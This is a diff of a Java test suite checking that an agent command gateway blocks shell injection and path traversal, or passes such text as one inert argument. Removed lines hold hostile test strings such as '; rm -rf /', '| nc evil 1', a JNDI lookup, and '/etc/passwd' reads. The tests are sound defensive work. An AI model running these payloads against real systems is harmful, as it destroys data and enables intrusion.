@@ -1,15 +1,26 @@
 package dev.escarole.web.agent.command;
 
 import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
 
 import com.fasterxml.jackson.databind.JsonNode;
+import dev.escarole.engine.EngineOptions;
 import dev.escarole.engine.run.RunId;
+import dev.escarole.engine.store.RunQuery;
+import dev.escarole.engine.store.StoredRun;
+import dev.escarole.recipe.Problem;
+import dev.escarole.recipe.RecipeException;
+import dev.escarole.recipe.RecipeReader;
+import dev.escarole.recipe.handle.CommandHandle;
+import dev.escarole.recipe.handle.HandleReader;
 import dev.escarole.web.agent.acli.AcliResponse;
 import dev.escarole.web.agent.acli.AuditEntry;
 import dev.escarole.web.agent.acli.ErrorCode;
 import java.util.ArrayList;
 import java.util.List;
+import java.util.Map;
 import java.util.stream.Stream;
+import org.jspecify.annotations.Nullable;
 import org.junit.jupiter.api.AfterAll;
 import org.junit.jupiter.api.BeforeAll;
 import org.junit.jupiter.api.Test;
@@ -35,90 +46,26 @@ class InjectionTest {
       args: ["file:path", "files:array=[]"]
       template: printf %s {file}
       """;
+  private static final String SAY =
+      """
+      handle: command
+      name: say
+      parameters: {type: object, required: [text], properties: {text: {type: string}}}
+      command: printf
+      arguments: {$encode: args, $use: ["%s", {$: $.text}]}
+      """;
 
-  /** Texts with a character that shells give a meaning to. */
-  private static final List<String> FORBIDDEN =
-      List.of(
-          "; rm -rf /",
-          "a;b",
-          "&& reboot",
-          "a & b",
-          "| nc evil 1",
-          "x || y",
-          "`id`",
-          "$(id)",
-          "$HOME",
-          "${IFS}",
-          "(id)",
-          ")",
-          "{text}",
-          "{{note}}",
-          "}",
-          "[ -f x ]",
-          "]",
-          "< /etc/passwd",
-          "> /tmp/x",
-          ">> log",
-          "2>&1",
-          "<(id)",
-          "!!",
-          "!1",
-          "\\",
-          "\\x41",
-          "\\u003b",
-          "C:\\x",
-          "${jndi:ldap://x/a}",
-          "<script>alert(1)</script>");
-
-  /** Texts that look like more than they are. */
-  private static final List<String> INERT =
-      List.of(
-          "--text",
-          "--wait=0",
-          "-rf",
-          "--help",
-          "--",
-          "-",
-          "-n10",
-          "*",
-          "?",
-          "~",
-          "~root/.ssh",
-          "a b",
-          "  padded  ",
-          "",
-          "%s%n%x",
-          "%00",
-          "%3B rm",
-          "#comment",
-          "a'b",
-          "a\"b",
-          "' or '1'='1",
-          "\" --wait 0 \"",
-          "line one\nline two",
-          "tab\there",
-          "\u202Egnp.exe",
-          "\u200B",
-          "\uFF1B rm",
-          "\u037E id",
-          "\u0007bell",
-          "null",
-          "true",
-          "-5",
-          "1e999",
-          "../../etc/passwd",
-          "/etc/passwd",
-          "file:///etc/passwd",
-          "help",
-          "x-echo",
-          "DROP TABLE runs",
-          "a=b",
-          "text=other",
-          ",",
-          "@/etc/passwd",
-          "\uD83E\uDD57",
-          "e\u0301",
-          "A".repeat(4_000));
+  /** What a text may be: after a flag's name and '=', inside a text, and after the end of flags. */
+  private static final String FORM =
+      """
+      handle: command
+      name: form
+      parameters: {type: object, required: [text], properties: {text: {type: string}}}
+      command: printf
+      arguments:
+        $encode: args
+        $use: [{"--note=": {$: $.text}}, "in-{{text}}", {"--": {$: $.text}}]
+      """;
 
   /** Paths that lead out, in a place that is declared as a path. */
   private static final List<String> OUTSIDE =
@@ -167,16 +114,27 @@ class InjectionTest {
           "x-echo --text " + "a".repeat(10_000));
 
   private final AgentLines lines = new AgentLines();
-  private int sent;
+  private final AgentLines open = new AgentLines(EngineOptions.inMemory(), true);
 
   @BeforeAll
   void shelf() {
-    lines.with("echo", ECHO).with("read", READ);
+    for (AgentLines each : List.of(lines, open)) {
+      each.with("echo", ECHO).with("read", READ).with(handle());
+    }
+  }
+
+  private static Offer handle() {
+    return new Offer(
+        "say",
+        new RecipeReader().read(SAY, "say.handle.yaml"),
+        new HandleReader().read(SAY, "say.handle.yaml"),
+        null);
   }
 
   @AfterAll
   void close() {
     lines.close();
+    open.close();
   }
 
   private static String quoted(String text) {
@@ -185,68 +143,149 @@ class InjectionTest {
         + '"';
   }
 
-  static Stream<Arguments> hostile() {
-    List<Arguments> all = new ArrayList<>();
-    for (String text : FORBIDDEN) {
-      String word = quoted(text);
-      all.add(Arguments.of("x-echo --text " + word, ErrorCode.INJECTION_BLOCKED));
-      all.add(
-          Arguments.of("run echo --set " + quoted("text=" + text), ErrorCode.INJECTION_BLOCKED));
-      all.add(Arguments.of("help " + word, ErrorCode.INJECTION_BLOCKED));
-      all.add(Arguments.of(word + " --text x", ErrorCode.INJECTION_BLOCKED));
-    }
-    OUTSIDE.forEach(
-        path -> {
-          all.add(Arguments.of("x-read --file " + quoted(path), ErrorCode.PATH_TRAVERSAL_BLOCKED));
-        });
-    BROKEN.forEach(line -> all.add(Arguments.of(line, ErrorCode.PARSE_ERROR)));
-    return all.stream();
+  static Stream<String> texts() {
+    return HostileTexts.all().stream();
   }
 
-  static Stream<String> inert() {
-    return INERT.stream();
+  static Stream<Arguments> hostile() {
+    List<Arguments> all = new ArrayList<>();
+    HostileTexts.all().stream()
+        .filter(text -> HostileTexts.isForbidden(text) && !HostileTexts.isBroken(text))
+        .map(InjectionTest::quoted)
+        .forEach(
+            word -> {
+              all.add(Arguments.of("help " + word, ErrorCode.INJECTION_BLOCKED));
+              all.add(Arguments.of(word + " --text x", ErrorCode.INJECTION_BLOCKED));
+            });
+    OUTSIDE.forEach(
+        path ->
+            all.add(
+                Arguments.of("x-read --file " + quoted(path), ErrorCode.PATH_TRAVERSAL_BLOCKED)));
+    BROKEN.forEach(line -> all.add(Arguments.of(line, ErrorCode.PARSE_ERROR)));
+    return all.stream();
   }
 
   @ParameterizedTest
   @MethodSource("hostile")
   void a_hostile_line_is_refused_with_the_right_code_and_nothing_runs(
       String line, ErrorCode expected) {
-    AcliResponse response = lines.send(line);
-    sent++;
-    assertThat(response.error()).isNotNull().extracting(error -> error.code()).isEqualTo(expected);
-    AuditEntry entry = lines.audit.get(lines.audit.size() - 1);
-    assertThat(entry.ending().error()).isEqualTo(expected);
-    assertThat(line).startsWith(entry.command());
+    refused(lines, line, expected);
   }
 
   @ParameterizedTest
-  @MethodSource("inert")
-  void a_text_that_only_looks_hostile_is_one_inert_argument(String text) {
+  @MethodSource("texts")
+  void a_hostile_text_on_a_line_is_refused_or_one_inert_argument(String text) {
     for (String line :
         List.of(
             "x-echo --text " + quoted(text) + " --wait 60",
             "run echo --set " + quoted("text=" + text) + " --wait 60")) {
-      AcliResponse response = lines.send(line);
-      sent++;
-      assertThat(response.error()).as(line).isNull();
-      JsonNode data = AgentLines.json(response).get("data");
-      assertThat(data.get("status").textValue()).isEqualTo("done");
-      RunId run = new RunId(data.get("run").textValue());
-      assertThat(lines.engine.store().steps(run).get(0).argv())
-          .containsExactly("printf", "%s", text);
-      AuditEntry entry = lines.audit.get(lines.audit.size() - 1);
-      assertThat(entry.ending().error()).isNull();
-      assertThat(entry.command()).isEqualTo(line);
+      ErrorCode refusal = refusal(text);
+      if (refusal == null) {
+        inert(lines, line, text);
+      } else {
+        refused(lines, line, refusal);
+      }
     }
   }
 
-  @Test
-  void these_are_more_than_two_hundred() {
-    assertThat(hostile().count() + 2 * inert().count()).isGreaterThan(200);
+  @ParameterizedTest
+  @MethodSource("texts")
+  void a_hostile_text_for_a_handle_is_refused_or_one_inert_argument(String text) {
+    String line = "x-say --text " + quoted(text) + " --wait 60";
+    ErrorCode refusal = refusal(text);
+    if (refusal == null && HostileTexts.isFlag(text)) {
+      refusal = ErrorCode.VALIDATION_ERROR;
+    }
+    if (refusal == null) {
+      inert(lines, line, text);
+    } else {
+      refused(lines, line, refusal);
+    }
   }
 
-  @AfterAll
-  void the_audit_has_each_line_once() {
-    assertThat(lines.audit).hasSize(sent);
+  /** Here the guard is off, so that what it would have caught gets to the handle. */
+  @ParameterizedTest
+  @MethodSource("texts")
+  void without_the_guard_a_handle_itself_refuses_or_passes_one_inert_argument(String text) {
+    String line = "x-say --text " + quoted(text) + " --wait 60";
+    if (HostileTexts.isBroken(text)) {
+      refused(open, line, ErrorCode.PARSE_ERROR);
+    } else if (HostileTexts.isFlag(text)) {
+      refused(open, line, ErrorCode.VALIDATION_ERROR);
+    } else {
+      inert(open, line, text);
+    }
+  }
+
+  /** Nothing reaches a gateway here, so there is nothing to audit. */
+  @ParameterizedTest
+  @MethodSource("texts")
+  void a_hostile_text_in_a_tool_form_is_refused_or_one_inert_argument(String text) {
+    CommandHandle form = new HandleReader().read(FORM, "form.handle.yaml");
+    String joined = text.replace("\\", "\\\\").replace(",", "\\,");
+    if (HostileTexts.isBroken(text)) {
+      assertThatThrownBy(() -> form.call(Map.of("text", text)))
+          .isInstanceOf(RecipeException.class)
+          .satisfies(
+              e ->
+                  assertThat(((RecipeException) e).problems())
+                      .extracting(Problem::code)
+                      .containsAnyOf("args-nul", "args-bad-unicode"));
+      return;
+    }
+    assertThat(form.call(Map.of("text", text)).argv())
+        .containsExactly("printf", "--note=" + joined, "in-" + text, "--", text);
+  }
+
+  private static @Nullable ErrorCode refusal(String text) {
+    if (HostileTexts.isBroken(text)) {
+      return ErrorCode.PARSE_ERROR;
+    }
+    return HostileTexts.isForbidden(text) ? ErrorCode.INJECTION_BLOCKED : null;
+  }
+
+  private static void refused(AgentLines agent, String line, ErrorCode expected) {
+    int before = agent.audit.size();
+    long runs = runs(agent);
+    AcliResponse response = agent.send(line);
+    assertThat(response.error())
+        .as(line)
+        .isNotNull()
+        .extracting(error -> error.code())
+        .isEqualTo(expected);
+    assertThat(runs(agent)).isEqualTo(runs);
+    assertAudited(agent, before, line, expected);
+  }
+
+  private static void inert(AgentLines agent, String line, String text) {
+    int before = agent.audit.size();
+    AcliResponse response = agent.send(line);
+    assertThat(response.error()).as(line).isNull();
+    JsonNode data = AgentLines.json(response).get("data");
+    assertThat(data.get("status").textValue()).isEqualTo("done");
+    RunId run = new RunId(data.get("run").textValue());
+    assertThat(agent.engine.store().steps(run).get(0).argv()).containsExactly("printf", "%s", text);
+    assertAudited(agent, before, line, null);
+  }
+
+  private static long runs(AgentLines agent) {
+    return agent.engine.store().runs(RunQuery.latest(1)).stream()
+        .mapToLong(StoredRun::number)
+        .sum();
+  }
+
+  private static void assertAudited(
+      AgentLines agent, int before, String line, @Nullable ErrorCode expected) {
+    assertThat(agent.audit).hasSize(before + 1);
+    AuditEntry entry = agent.audit.get(before);
+    assertThat(entry.ending().error()).isEqualTo(expected);
+    assertThat(entry.command()).isEqualTo(line);
+  }
+
+  @Test
+  void these_are_more_than_two_hundred_and_each_is_another() {
+    assertThat(HostileTexts.all()).hasSizeGreaterThan(200).doesNotHaveDuplicates();
+    assertThat(HostileTexts.all().stream().filter(HostileTexts::isForbidden))
+        .hasSizeGreaterThan(60);
   }
 }
